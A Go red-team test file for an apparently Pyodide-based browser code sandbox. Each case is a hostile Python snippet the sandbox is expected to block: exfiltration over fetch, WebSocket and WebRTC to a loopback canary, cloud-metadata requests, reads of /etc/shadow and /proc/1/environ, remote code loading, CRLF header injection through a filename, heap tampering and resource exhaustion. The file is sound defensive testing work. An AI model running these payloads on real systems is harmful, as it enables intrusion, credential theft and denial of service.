package redteam

import (
	"strings"
	"sync"
	"testing"

	"github.com/sandpit-dev/sandpit"
)

// attack is one red-team case.
type attack struct {
	name string
	code string         // Python; {TCP} and {UDP} are the canary's ports
	spec map[string]any // more fields of the spec
	// check judges the outcome; nil means: the job succeeded and printed
	// SAFE, never BREACH.
	check func(t *testing.T, status int, job sandpit.Job)
	// then, when set, is run as a second job after code, and must print
	// CLEAN: nothing the first job did is visible to it.
	then string
}

// try wraps a Python statement: SAFE when it raises, BREACH when it works.
func try(stmt string) string {
	return "try:\n    " + strings.ReplaceAll(stmt, "\n", "\n    ") +
		"\n    print('BREACH')\nexcept BaseException as e:\n    print('SAFE', type(e).__name__)\n"
}

// attempt runs a statement whose failure may not raise: the canary judges it.
func attempt(stmt string) string {
	return "try:\n    " + strings.ReplaceAll(stmt, "\n", "\n    ") + "\nexcept BaseException:\n    pass\nprint('SAFE')\n"
}

func status(want sandpit.Status) func(*testing.T, int, sandpit.Job) {
	return func(t *testing.T, code int, job sandpit.Job) {
		if job.Status != want {
			t.Fatalf("status = %s (%s), want %s", job.Status, job.Message, want)
		}
	}
}

// networkAttacks try every way out of the browser. They run against the
// full server and against one whose Chromium has a network namespace
// turned off, so that request interception is shown to hold alone.
var networkAttacks = []attack{
	{name: "exfiltrate with fetch to a loopback service", code: try("await js.fetch('http://127.0.0.1:{TCP}/')")},
	{name: "exfiltrate with fetch to localhost by name", code: try("await js.fetch('http://localhost:{TCP}/')")},
	{name: "exfiltrate with fetch to IPv6 loopback", code: try("await js.fetch('http://[::1]:{TCP}/')")},
	{name: "reach the host's Redis", code: try("await js.fetch('http://127.0.0.1:6379/')")},
	{name: "reach cloud metadata", code: try("await js.fetch('http://169.254.169.254/latest/meta-data/')")},
	{name: "reach the internet", code: try("await js.fetch('https://example.com/')")},
	{name: "read host files with a file URL", code: try("await js.fetch('file:///etc/passwd')")},
	{name: "exfiltrate with synchronous XMLHttpRequest", code: try("x = js.XMLHttpRequest.new()\nx.open('GET', 'http://127.0.0.1:{TCP}/', False)\nx.send()")},
	{name: "exfiltrate with a WebSocket", code: attempt("w = js.WebSocket.new('ws://127.0.0.1:{TCP}/')\nimport asyncio\nawait asyncio.sleep(0.3)")},
	{name: "exfiltrate with EventSource", code: attempt("e = js.EventSource.new('http://127.0.0.1:{TCP}/')\nimport asyncio\nawait asyncio.sleep(0.3)")},
	{name: "exfiltrate over UDP with WebTransport", code: attempt("w = js.WebTransport.new('https://127.0.0.1:{UDP}/')\nawait w.ready")},
	{name: "exfiltrate over UDP with WebRTC", code: attempt("from pyodide.ffi import to_js\npc = js.RTCPeerConnection.new()\npc.createDataChannel('x')\nawait pc.setLocalDescription(await pc.createOffer())\nimport asyncio\nawait asyncio.sleep(0.5)")},
	{name: "exfiltrate with sendBeacon", code: attempt("js.navigator.sendBeacon('http://127.0.0.1:{TCP}/', 'x')")},
	{name: "load remote code with dynamic import", code: try("await js.Function.new(\"return import('http://127.0.0.1:{TCP}/x.mjs')\")()")},
	{name: "load remote code with importScripts", code: try("js.importScripts('http://127.0.0.1:{TCP}/x.js')")},
	{name: "escape into a nested blob: worker", code: try("b = js.Blob.new(js.Array.of(\"fetch('http://127.0.0.1:{TCP}/')\"))\njs.Worker.new(js.URL.createObjectURL(b))")},
	{name: "escape into a nested data: worker", code: try("js.Worker.new(\"data:text/javascript,fetch('http://127.0.0.1:{TCP}/')\")")},
	{name: "load a package from a URL", code: attempt("import pyodide_js\nawait pyodide_js.loadPackage('http://127.0.0.1:{TCP}/evil-1.0-py3-none-any.whl')")},
	{name: "fetch with pyodide.http", code: try("from pyodide.http import pyfetch\nawait pyfetch('http://127.0.0.1:{TCP}/')")},
	{name: "open a raw socket", code: try("import socket\ns = socket.socket()\ns.connect(('127.0.0.1', {TCP}))")},
	{name: "urllib to a loopback service", code: try("import urllib.request\nurllib.request.urlopen('http://127.0.0.1:{TCP}/', timeout=1)")},
	{name: "write to sandpit's own origin", code: try("from pyodide.ffi import to_js\nawait js.fetch('/sandbox.html', to_js({'method': 'POST', 'body': 'x'}, dict_converter=js.Object.fromEntries))")},
	{name: "read outside the assets by path traversal", code: "try:\n    r = await js.fetch('/..%2f..%2f..%2fetc%2fpasswd')\n    t = await r.text()\n    print('BREACH' if 'root:' in t else 'SAFE')\nexcept Exception:\n    print('SAFE')"},
}

// sandboxAttacks cover storage, other jobs, the harness, the host and
// resources; they run against the full server.
var sandboxAttacks = []attack{
	// Storage and channels that could carry state to another job.
	{name: "persist in IndexedDB", code: try("js.indexedDB.open('x')")},
	{name: "recover IndexedDB from the prototype chain", code: "d = js.Object.getOwnPropertyDescriptor(js.WorkerGlobalScope.prototype, 'indexedDB')\nprint('SAFE' if d is None else 'BREACH')"},
	{name: "persist in Cache Storage", code: try("await js.caches.open('x')")},
	{name: "persist in localStorage", code: try("js.localStorage.setItem('x', '1')")},
	{name: "talk to other jobs over BroadcastChannel", code: try("js.BroadcastChannel.new('x').postMessage('hi')")},
	{name: "coordinate with other jobs through Web Locks", code: try("js.navigator.locks.request('x', lambda l: None)")},
	{name: "persist in the origin private file system", code: try("await js.navigator.storage.getDirectory()")},
	{name: "read or set cookies", code: try("js.document.cookie = 'x=1'")},
	{name: "leave Python state for the next job",
		code: "import builtins, sys, os\nbuiltins.MARK = 1\nsys.modules['mark'] = sys\nos.environ['MARK'] = '1'\nopen('mark.txt', 'w').write('x')\nopen('/tmp/mark.txt', 'w').write('x')\nimport json\njson.JSONEncoder.MARK = 1\nprint('SAFE')",
		then: "import builtins, sys, os, json\nfound = [n for n, c in [('builtins', hasattr(builtins, 'MARK')), ('modules', 'mark' in sys.modules), ('environ', 'MARK' in os.environ), ('home', os.path.exists('mark.txt')), ('tmp', os.path.exists('/tmp/mark.txt')), ('stdlib', hasattr(json.JSONEncoder, 'MARK'))] if c]\nprint('CLEAN' if not found else found)"},
	{name: "leave JavaScript state for the next job",
		code: "js.globalThis.MARK = 1\njs.Object.prototype.polluted = 1\njs.Array.prototype.push = None\nprint('SAFE')",
		then: "print('CLEAN' if not hasattr(js.globalThis, 'MARK') and not hasattr(js.Object.new(), 'polluted') else 'DIRTY')"},
	// The harness and the page.
	{name: "reach the host page's DOM", code: try("js.document.body.innerHTML = 'x'")},
	{name: "reach the harness's run function", code: try("js.sandpit.run(js.Object.new(), js.Object.new())")},
	{name: "reach the parent or top window", code: try("js.parent.postMessage('x', '*')")},
	{name: "reach the collector the harness keeps", code: "print('BREACH' if callable(getattr(js, 'gc', None)) else 'SAFE')"},
	{name: "tamper with the harness for the next job",
		code:  "import __main__, sys\nfor m in list(sys.modules.values()):\n    if hasattr(m, '_sandpit_start'): m._sandpit_start = None\njs.postMessage = None\nprint('SAFE')",
		check: func(t *testing.T, code int, job sandpit.Job) {}, // it may break its own job; the next must be fine
		then:  "print('CLEAN' if hasattr(js, 'postMessage') and js.postMessage is not None else 'DIRTY')"},
	{name: "tamper with the interpreter's memory for the next job",
		// The job writes into its WebAssembly memory, which began as a copy
		// of the snapshot: a string the snapshot holds is changed in place.
		// The next interpreter starts from the snapshot and must not see it.
		code: "import sys, pyodide_js\nheap = pyodide_js._module.HEAPU8\nbase = id(sys.copyright)\nat = next(base + o for o in range(8, 96) if heap[base + o] == ord('C') and heap[base + o + 1] == ord('o') and heap[base + o + 2] == ord('p'))\nheap[at] = ord('X')\nprint('SAFE' if sys.copyright.startswith('Xop') else 'NOT WRITTEN')",
		then: "import sys\nprint('CLEAN' if sys.copyright.startswith('Copyright') else 'DIRTY: ' + sys.copyright[:10])"},
	{name: "break the harness's own helpers",
		code: "import json, os\njson.dumps = None\nos.walk = None\nprint('SAFE')",
		check: func(t *testing.T, code int, job sandpit.Job) {
			if job.Status != sandpit.StatusFailed || job.Error == nil || job.Error.Type != "HarnessError" {
				t.Fatalf("status %s error %+v; want failed with HarnessError, not a retried sandbox error", job.Status, job.Error)
			}
		},
		then: "import json, os\nprint('CLEAN' if json.dumps is not None and os.walk is not None else 'DIRTY')"},
	{name: "flood the page with output messages",
		code: "from pyodide.ffi import to_js\nfor i in range(20):\n    js.postMessage(to_js({'type': 'out', 'fd': 1, 'data': js.Uint8Array.new(8 << 20)}, dict_converter=js.Object.fromEntries))\nprint('SAFE')",
		check: func(t *testing.T, code int, job sandpit.Job) {
			if len(job.Stdout) > 256<<10 || !job.StdoutTruncated {
				t.Fatalf("stdout %d bytes, truncated %v; want at most the 256 KiB cap", len(job.Stdout), job.StdoutTruncated)
			}
		}},
	{name: "forge a malformed result",
		code: "from pyodide.ffi import to_js\njs.postMessage(to_js({'type': 'done', 'result': '{not json'}, dict_converter=js.Object.fromEntries))\nimport time\ntime.sleep(1)",
		check: func(t *testing.T, code int, job sandpit.Job) {
			if job.Status != sandpit.StatusError || strings.Contains(job.Message, "/") {
				t.Fatalf("status %s message %q; want error without host details", job.Status, job.Message)
			}
		}},
	{name: "force its own retries by forging a sandbox failure",
		code: "from pyodide.ffi import to_js\njs.postMessage(to_js({'type': 'fatal', 'message': 'forged'}, dict_converter=js.Object.fromEntries))\nimport time\ntime.sleep(1)",
		check: func(t *testing.T, code int, job sandpit.Job) {
			if job.Status != sandpit.StatusError || job.Message != "the sandbox failed: forged" {
				t.Fatalf("status %s message %q; want the job's own error, once, not retried", job.Status, job.Message)
			}
		}},
	{name: "force its own retries by killing its own worker",
		code: "import asyncio\nfrom pyodide.ffi import create_proxy\ndef boom():\n    raise RuntimeError('x')\njs.setTimeout(create_proxy(boom), 0)\nawait asyncio.sleep(2)",
		check: func(t *testing.T, code int, job sandpit.Job) {
			if job.Status != sandpit.StatusError || !strings.HasPrefix(job.Message, "the sandbox failed: sandbox worker failed") {
				t.Fatalf("status %s message %q; want the job's own error, once, not retried", job.Status, job.Message)
			}
		}},
	{name: "force its own retries by reporting nonsense",
		code: "import __main__\n__main__._Job._report = lambda self, *a: '{\"status\": \"pwned\"}'",
		check: func(t *testing.T, code int, job sandpit.Job) {
			if job.Status != sandpit.StatusError || job.Message != `the sandbox failed: its result has unknown status "pwned"` {
				t.Fatalf("status %s message %q; want the job's own error, once, not retried", job.Status, job.Message)
			}
		}},
	{name: "return a huge value from the last line",
		code: "'x' * (400 << 20)", spec: map[string]any{"memory_mb": 1024, "timeout_ms": 60000},
		check: func(t *testing.T, code int, job sandpit.Job) {
			if job.Status != sandpit.StatusSucceeded || job.Result.Result == nil || len(*job.Result.Result) != 256<<10 || !job.ResultTruncated {
				t.Fatalf("status %s (%s) result truncated %v; want success with the first 256 KiB", job.Status, job.Message, job.ResultTruncated)
			}
		}},
	{name: "raise an exception with a huge message",
		code: "raise ValueError('x' * (100 << 20))", spec: map[string]any{"memory_mb": 1024, "timeout_ms": 60000},
		check: func(t *testing.T, code int, job sandpit.Job) {
			if job.Status != sandpit.StatusFailed || job.Error == nil || len(job.Error.Message) != 256<<10 || len(job.Error.Traceback) > 256<<10 {
				t.Fatalf("status %s (%s) error %.100v; want failed with a capped error", job.Status, job.Message, job.Error)
			}
		}},
	{name: "name an output file to break the header it is served with",
		code: "open('a\\r\\nSet-Cookie: x=1', 'w').write('x')\nopen('ok.txt', 'w').write('x')",
		check: func(t *testing.T, code int, job sandpit.Job) {
			if job.Status != sandpit.StatusSucceeded || len(job.Files) != 1 || job.Files[0].Path != "ok.txt" || !job.FilesTruncated {
				t.Fatalf("status %s files %v truncated %v; want ok.txt alone", job.Status, job.Files, job.FilesTruncated)
			}
		}},
	// Dialogs, popups and downloads.
	{name: "open a dialog", code: try("js.alert('x')")},
	{name: "open a popup", code: try("js.open('https://example.com/')")},
	{name: "start a download", code: try("a = js.document.createElement('a')\na.download = 'x'\na.click()")},
	// The host.
	{name: "read the host's environment",
		code: "import os\nleak = [k for k in os.environ if k.startswith(('SANDPIT', 'REDIS', 'GO', 'CI', 'SSH'))] + [v for v in os.environ.values() if v.startswith('/root') or 'go/bin' in v]\nprint('SAFE' if not leak else ('BREACH', leak))"},
	{name: "read the host's files", code: try("open('/etc/shadow').read()\nopen('/proc/1/environ').read()")},
	{name: "list the host's root directory", code: "import os\nprint('SAFE' if not {'etc', 'usr', 'root', 'var'} & set(os.listdir('/')) else 'BREACH')"},
	{name: "learn host paths from an error",
		code: "raise RuntimeError('x')",
		check: func(t *testing.T, code int, job sandpit.Job) {
			for _, leak := range []string{"/root", "/work", "/tmp/", "sandpit-dev", ".go:"} {
				if strings.Contains(job.Stderr+job.Message+job.Error.Traceback, leak) {
					t.Fatalf("error output shows %q", leak)
				}
			}
		}},
	// Resources.
	{name: "burn CPU forever", code: "while True: pass", spec: map[string]any{"timeout_ms": 500}, check: status(sandpit.StatusTimeout)},
	{name: "burn CPU and swallow the interrupt", code: "while True:\n    try:\n        while True: pass\n    except BaseException:\n        pass", spec: map[string]any{"timeout_ms": 500}, check: status(sandpit.StatusTimeout)},
	{name: "sleep forever", code: "import time\ntime.sleep(3600)", spec: map[string]any{"timeout_ms": 500}, check: status(sandpit.StatusTimeout)},
	{name: "await forever", code: "import asyncio\nawait asyncio.sleep(3600)", spec: map[string]any{"timeout_ms": 500}, check: status(sandpit.StatusTimeout)},
	{name: "exhaust memory", code: "x = []\nwhile True:\n    x.append(bytearray(16 << 20))", spec: map[string]any{"memory_mb": 128}, check: status(sandpit.StatusMemoryLimit)},
	{name: "exhaust memory in one allocation", code: "x = bytearray((1 << 31) - 2)",
		check: func(t *testing.T, code int, job sandpit.Job) {
			if job.Status != sandpit.StatusMemoryLimit && (job.Error == nil || job.Error.Type != "MemoryError") {
				t.Fatalf("status %s error %+v; want memory_limit or MemoryError", job.Status, job.Error)
			}
		}},
	{name: "exhaust memory outside the interpreter through JavaScript",
		code: "bufs = []\nfor i in range(6):\n    b = js.Uint8Array.new(1 << 30)\n    b.fill(1)\n    bufs.append(b)\nprint('BREACH')",
		spec: map[string]any{"timeout_ms": 20000},
		check: func(t *testing.T, code int, job sandpit.Job) {
			if job.Status == sandpit.StatusSucceeded || strings.Contains(job.Stdout, "BREACH") {
				t.Fatalf("6 GiB of JavaScript memory was allocated and filled: %s", job.Status)
			}
		}},
	{name: "flood stdout", code: "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)", spec: map[string]any{"timeout_ms": 1500},
		check: func(t *testing.T, code int, job sandpit.Job) {
			if job.Status != sandpit.StatusTimeout || len(job.Stdout) > 256<<10 || !job.StdoutTruncated {
				t.Fatalf("status %s stdout %d bytes truncated %v: %s", job.Status, len(job.Stdout), job.StdoutTruncated, job.Message)
			}
		}},
	{name: "flood output files", code: "for i in range(5000):\n    open(f'f{i}', 'w').write('x' * 1000)",
		check: func(t *testing.T, code int, job sandpit.Job) {
			if len(job.Files) > 20 || !job.FilesTruncated {
				t.Fatalf("%d files, truncated %v; want at most 20 (status %s: %s)", len(job.Files), job.FilesTruncated, job.Status, job.Message)
			}
		}},
	{name: "recurse without end", code: "def f(): f()\nf()",
		check: func(t *testing.T, code int, job sandpit.Job) {
			if job.Status != sandpit.StatusFailed || job.Error == nil || job.Error.Type != "RecursionError" {
				t.Fatalf("status %s error %+v, want failed with RecursionError", job.Status, job.Error)
			}
		}},
	{name: "overflow the native stack", code: "import sys\nsys.setrecursionlimit(10**7)\ndef f(n): return f(n + 1)\nf(0)",
		// The stack fills in well under a second on a quiet machine; the
		// long timeout keeps a loaded one from ending it first.
		spec: map[string]any{"timeout_ms": 60000},
		check: func(t *testing.T, code int, job sandpit.Job) {
			switch job.Status {
			case sandpit.StatusFailed, sandpit.StatusError, sandpit.StatusMemoryLimit:
			default:
				t.Fatalf("status %s, want failed, error or memory_limit", job.Status)
			}
		}},
	{name: "hoard an asset in the worker under many spellings of its path",
		code: "ok = 0\nfor i in range(1, 41):\n    try:\n        r = await js.fetch('/pyodide/' + '/' * i + 'pyodide.asm.wasm')\n        if r.ok:\n            await r.arrayBuffer()\n            ok += 1\n    except Exception:\n        pass\nprint('SAFE' if ok == 0 else ('BREACH', ok))",
		spec: map[string]any{"timeout_ms": 60000}},
	{name: "flood the DevTools pipe by fetching one asset over and over",
		code: "ok = refused = 0\nfor i in range(100):\n    try:\n        r = await js.fetch('/pyodide/pyodide.asm.wasm')\n        await r.arrayBuffer()\n        ok += 1\n    except Exception:\n        refused += 1\nprint('SAFE' if ok > 0 and refused > 0 else ('BREACH', ok, refused))",
		spec: map[string]any{"timeout_ms": 60000}},
	{name: "spawn a storm of workers", code: try("for i in range(1000):\n    js.Worker.new('/worker.js')")},
	{name: "exhaust the API with a huge spec", code: strings.Repeat("#", 2<<20),
		check: func(t *testing.T, code int, job sandpit.Job) {
			if code != 413 {
				t.Fatalf("HTTP status %d, want 413", code)
			}
		}},
}

func runAttack(t *testing.T, s *server, a attack) {
	t.Helper()
	showOnFailure(t)
	spec := map[string]any{"code": expand("import js\n" + a.code)}
	for k, v := range a.spec {
		spec[k] = v
	}
	code, job := s.run(t, spec)
	switch {
	case a.check != nil:
		a.check(t, code, job)
	case code != 200 || job.Status != sandpit.StatusSucceeded:
		t.Fatalf("HTTP %d, status %s: %s%s", code, job.Status, job.Stderr, job.Message)
	case !strings.Contains(job.Stdout, "SAFE") || strings.Contains(job.Stdout, "BREACH"):
		t.Fatalf("the attack worked: stdout %q stderr %q", job.Stdout, job.Stderr)
	}
	if a.then != "" {
		if _, next := s.run(t, map[string]any{"code": "import js\n" + a.then}); !strings.HasPrefix(next.Stdout, "CLEAN") {
			t.Fatalf("the next job found traces: %q %s", next.Stdout, next.Stderr)
		}
	}
	if contact := bird.Take(); len(contact) > 0 {
		t.Fatalf("the canary was contacted: %v", contact)
	}
	s.healthy(t)
}

func TestNetworkAttacks(t *testing.T) {
	for _, a := range networkAttacks {
		t.Run(a.name, func(t *testing.T) { runAttack(t, full, a) })
	}
}

// TestNetworkAttacksWithoutNetns runs the network attacks against a
// Chromium that shares the host's network: request interception, the CSP,
// the proxy and resolver flags and the harness must stop them alone.
func TestNetworkAttacksWithoutNetns(t *testing.T) {
	if bare.runner.Netns() {
		t.Fatal("the bare server has a network namespace")
	}
	for _, a := range networkAttacks {
		t.Run(a.name, func(t *testing.T) { runAttack(t, bare, a) })
	}
}

func TestSandboxAttacks(t *testing.T) {
	for _, a := range sandboxAttacks {
		t.Run(a.name, func(t *testing.T) { runAttack(t, full, a) })
	}
}

// TestConcurrentJobsShareNothing runs jobs at once that each leave marks
// everywhere and look for the others'.
func TestConcurrentJobsShareNothing(t *testing.T) {
	code := `
import os, js, builtins, asyncio
me = os.urandom(4).hex()
setattr(builtins, 'MARK_' + me, 1)
setattr(js.globalThis, 'MARK_' + me, 1)
open('/tmp/MARK_' + me, 'w').write('x')
await asyncio.sleep(0.5)
others = [n for n in dir(builtins) if n.startswith('MARK_') and n != 'MARK_' + me]
others += [n for n in os.listdir('/tmp') if n.startswith('MARK_') and n != 'MARK_' + me]
others += [n for n in js.Object.keys(js.globalThis) if n.startswith('MARK_') and n != 'MARK_' + me]
print('CLEAN' if not others else others)
`
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			if _, job := full.run(t, map[string]any{"code": code}); job.Stdout != "CLEAN\n" {
				t.Errorf("a concurrent job saw another's marks: %q %s", job.Stdout, job.Stderr)
			}
		})
	}
	wg.Wait()
}
